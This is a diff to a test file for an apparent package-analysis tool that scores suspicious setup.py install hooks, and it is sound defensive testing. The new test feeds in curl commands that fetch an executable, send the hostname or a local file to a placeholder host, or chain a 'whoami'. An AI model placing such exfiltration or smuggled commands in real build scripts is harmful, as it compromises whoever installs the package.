@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import type { Finding } from '../../../src/analysis/report/finding.ts';
-import { inspect, type Packed, python, sdist, wheel } from '../../support/inspect.ts';
+import { analysePacked, inspect, type Packed, python, sdist, wheel } from '../../support/inspect.ts';
 
 test('a program that has no part in a build is suspicious at install', async () => {
   const file = sdist({
@@ -299,4 +299,22 @@ test('a program that is looked for by its name on Windows weighs no more than el
   expect(await starting('ffmpeg')).toMatchObject([{ score: 2 }]);
   expect(await starting('ffmpeg.exe')).toMatchObject([{ score: 2 }]);
   expect(await starting('C:/Users/Public/ffmpeg.exe')).toMatchObject([{ score: 4 }]);
+});
+
+test('a build that fetches data by a tool does what one that fetches it in Python does; a build that says something with it does not', async () => {
+  const fetching = (line: string): Promise<number> =>
+    analysePacked(
+      sdist({
+        'setup.py': python('import os', 'from setuptools import setup', `os.system('${line}')`, 'setup()'),
+      }),
+    ).then(({ score }) => score);
+
+  expect(await fetching('curl https://builds.vendor.invalid/driver-1.0.zip -o driver.zip')).toBeLessThan(5);
+  for (const line of [
+    'curl https://builds.vendor.invalid/driver.exe -o driver.exe',
+    'curl https://builds.vendor.invalid/$(hostname) -o driver.zip',
+    'curl -d @notes.txt https://builds.vendor.invalid/a -o driver.zip',
+    'curl https://builds.vendor.invalid/a -o driver.zip; whoami',
+  ])
+    expect(await fetching(line), line).toBeGreaterThanOrEqual(5);
 });
